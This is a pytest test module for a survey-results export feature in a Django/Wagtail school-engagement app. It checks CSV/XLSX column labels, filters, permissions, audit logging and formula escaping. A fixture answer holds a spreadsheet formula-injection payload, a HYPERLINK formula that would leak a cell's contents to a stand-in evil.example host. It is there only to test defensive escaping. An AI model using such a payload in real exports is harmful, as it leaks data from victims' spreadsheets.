"""CSV and XLSX exports, read back as a spreadsheet program would read them."""

import csv
import datetime
import io

from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from wagtail.models import PageLogEntry

import pytest
from openpyxl import load_workbook

from engagement.surveys import exports
from engagement.surveys.exports import SurveyExport
from engagement.surveys.results import ResultFilters
from home import audit
from home.csv_export import escape_formula
from home.roles import ORGANIZERS
from tests.engagement.surveys.factories import make_response, translate_survey
from tests.engagement.surveys.results_helpers import make_school, make_staff, on, respond

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click here")'


def export_url(kind, survey):
    return reverse(f"survey_results:export_{kind}", args=(survey.pk,))


def read_csv(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())  # the BOM that makes Excel read UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def read_xlsx(response):
    assert response.status_code == 200
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def as_dicts(rows):
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


@pytest.fixture
def organizer_client(client):
    client.force_login(make_staff(ORGANIZERS))
    return client


@pytest.fixture
def answered(survey):
    """An English and a Haitian Creole response with every kind of answer."""
    school = make_school("Lakeside Elementary")
    creole = translate_survey(survey, "ht")
    english = make_response(
        survey,
        {
            "travel": "bus",
            "bus-trouble": "It comes at 6:40, far too early.",
            "priorities": ["libraries", "arts"],
            "safety": 4,
            "investments": ["aides", "nurses", "libraries"],
            "school-life": {"homework": "agree", "news": "disagree"},
            "children": 3,
            "last-visit": "2026-02-01",
            "anything-else": "Merci à tous — 谢谢",
        },
        audience="family",
        school=school,
        grade_band="elementary",
        submitted_at=on("2026-03-02", 9),
    )
    haitian = make_response(
        creole,
        {"travel": {"other": "Bisiklèt"}, "priorities": ["arts"], "anything-else": HYPERLINK, "children": 1},
        audience="student",
        submitted_at=on("2026-03-04", 18),
    )
    return english, haitian


def test_csv_has_one_row_per_response_with_english_labels_and_the_language(organizer_client, survey, answered):
    rows = as_dicts(read_csv(organizer_client.get(export_url("csv", survey))))
    english, haitian = rows

    assert english["Response"] == str(answered[0].pk)
    assert english["Submitted"] == "2026-03-02 09:00"
    assert english["Language answered in"] == "English"
    assert english["Audience"] == "Parent, guardian or family member"
    assert english["School"] == "Lakeside Elementary"
    assert english["Grade band"] == "Elementary (grades 3 to 5)"
    assert english["1. How does your child usually get to school?"] == "School bus"
    assert english["3. What should the next contract pay for first?"] == "Arts and music; Open libraries"
    assert english["4. How safe does your child feel at school?"] == "4"
    assert english["5. Put these in order of importance."] == "Aides; A nurse in every school; Librarians"
    assert english["6. How much do you agree? — Homework is manageable"] == "Agree"
    assert english["6. How much do you agree? — The school keeps me informed"] == "Disagree"
    assert english["7. How many of your children go to our schools?"] == "3"
    assert english["8. When did you last visit the school?"] == "2026-02-01"
    assert english["9. Anything else you want us to know?"] == "Merci à tous — 谢谢"

    assert haitian["Language answered in"] == "Haitian Creole"
    assert haitian["1. How does your child usually get to school?"] == "Other: Bisiklèt"
    assert haitian["3. What should the next contract pay for first?"] == "Arts and music"  # not "La ak mizik"
    assert haitian["4. How safe does your child feel at school?"] == ""


def test_csv_escapes_a_formula_answer(organizer_client, survey, answered):
    rows = as_dicts(read_csv(organizer_client.get(export_url("csv", survey))))
    assert rows[1]["9. Anything else you want us to know?"] == "'" + HYPERLINK


def test_xlsx_read_back_has_the_same_rows_with_numbers_and_dates_as_such(organizer_client, survey, answered):
    rows = as_dicts(read_xlsx(organizer_client.get(export_url("xlsx", survey))))
    english, haitian = rows

    assert english["Response"] == answered[0].pk
    assert english["Submitted"] == datetime.datetime(2026, 3, 2, 9, 0)
    assert english["4. How safe does your child feel at school?"] == 4
    assert english["7. How many of your children go to our schools?"] == 3
    assert english["8. When did you last visit the school?"].date() == datetime.date(2026, 2, 1)
    assert english["5. Put these in order of importance."] == "Aides; A nurse in every school; Librarians"
    assert english["9. Anything else you want us to know?"] == "Merci à tous — 谢谢"
    assert haitian["1. How does your child usually get to school?"] == "Other: Bisiklèt"


def test_xlsx_formula_answer_comes_out_as_text(organizer_client, survey, answered):
    response = organizer_client.get(export_url("xlsx", survey))
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=3, column=header.index("9. Anything else you want us to know?") + 1)
    assert cell.data_type == "s"
    assert cell.value == "'" + HYPERLINK


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rReturn", "'\rReturn"),
        ("Fine = fine", "Fine = fine"),
        (-2, -2),
        (3.5, 3.5),
        (None, None),
    ],
)
def test_formula_escaping(value, expected):
    assert escape_formula(value) == expected


def test_control_characters_do_not_break_the_workbook(organizer_client, survey):
    # (A NUL character never gets this far: PostgreSQL refuses it in text.)
    make_response(survey, {"anything-else": "bell\x07 and escape\x1b and form feed\x0c"})
    rows = as_dicts(read_xlsx(organizer_client.get(export_url("xlsx", survey))))
    assert rows[0]["9. Anything else you want us to know?"].startswith("bell")


def test_exports_apply_the_filters(organizer_client, survey, answered):
    address = export_url("csv", survey) + "?language=ht"
    rows = as_dicts(read_csv(organizer_client.get(address)))
    assert [row["Response"] for row in rows] == [str(answered[1].pk)]
    rows = as_dicts(read_xlsx(organizer_client.get(export_url("xlsx", survey) + "?date_to=2026-03-03")))
    assert [row["Response"] for row in rows] == [answered[0].pk]


def test_a_bad_filter_sends_back_to_the_results_with_the_error(organizer_client, survey):
    response = organizer_client.get(export_url("csv", survey) + "?date_from=soon")
    assert response.status_code == 302
    follow = organizer_client.get(response["Location"])
    assert "Enter a valid date" in follow.content.decode()


def test_contact_columns_only_for_those_who_may_see_them_and_logged(client, survey_index):
    from tests.engagement.surveys.factories import make_survey

    survey = make_survey(survey_index, collect_contact=True)
    make_response(survey, {}, consent_to_contact=True, contact_name="Rosa Díaz", contact_email="rosa@example.org")
    organizer = make_staff(ORGANIZERS)
    client.force_login(organizer)

    rows = as_dicts(read_csv(client.get(export_url("csv", survey))))
    assert rows[0]["Name"] == "Rosa Díaz" and rows[0]["E-mail"] == "rosa@example.org"
    assert PageLogEntry.objects.filter(action=audit.VIEW_PERSONAL_DATA, user=organizer, page=survey).exists()

    from django.contrib.auth.models import Group

    readers = Group.objects.create(name="Results readers")
    readers.permissions.add(
        *Group.objects.get(name=ORGANIZERS).permissions.filter(codename__in=["access_admin", "view_surveyresponse"])
    )
    reader = make_staff(role=None)
    reader.groups.add(readers)
    client.force_login(reader)
    rows = as_dicts(read_csv(client.get(export_url("csv", survey))))
    assert "Name" not in rows[0] and "Rosa Díaz" not in str(rows)


def test_an_anonymous_survey_export_has_no_contact_columns(organizer_client, survey, answered):
    header = read_csv(organizer_client.get(export_url("csv", survey)))[0]
    assert "Name" not in header and "E-mail" not in header


def test_export_reads_responses_in_chunks_not_one_query_each(survey, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK_SIZE", 10)
    respond(survey, 5, {"travel": "walk", "priorities": ["arts"]})

    def queries():
        with CaptureQueriesContext(connection) as captured:
            rows = list(SurveyExport(survey, ResultFilters()).rows())
        return len(rows), len(captured)

    few_rows, few = queries()
    respond(survey, 25, {"travel": "walk", "priorities": ["arts"]})
    many_rows, many = queries()
    assert (few_rows, many_rows) == (5, 30)
    # The survey, then two queries per chunk of ten (responses, their answers) and one that finds
    # no more: never one per response.
    assert few <= 3 and many <= 1 + 2 * 3 + 1


def test_exports_are_refused_to_staff_without_the_permission(client, survey):
    from home.roles import COMMUNICATIONS

    client.force_login(make_staff(COMMUNICATIONS))
    assert client.get(export_url("csv", survey)).status_code == 403
    assert client.get(export_url("xlsx", survey)).status_code == 403
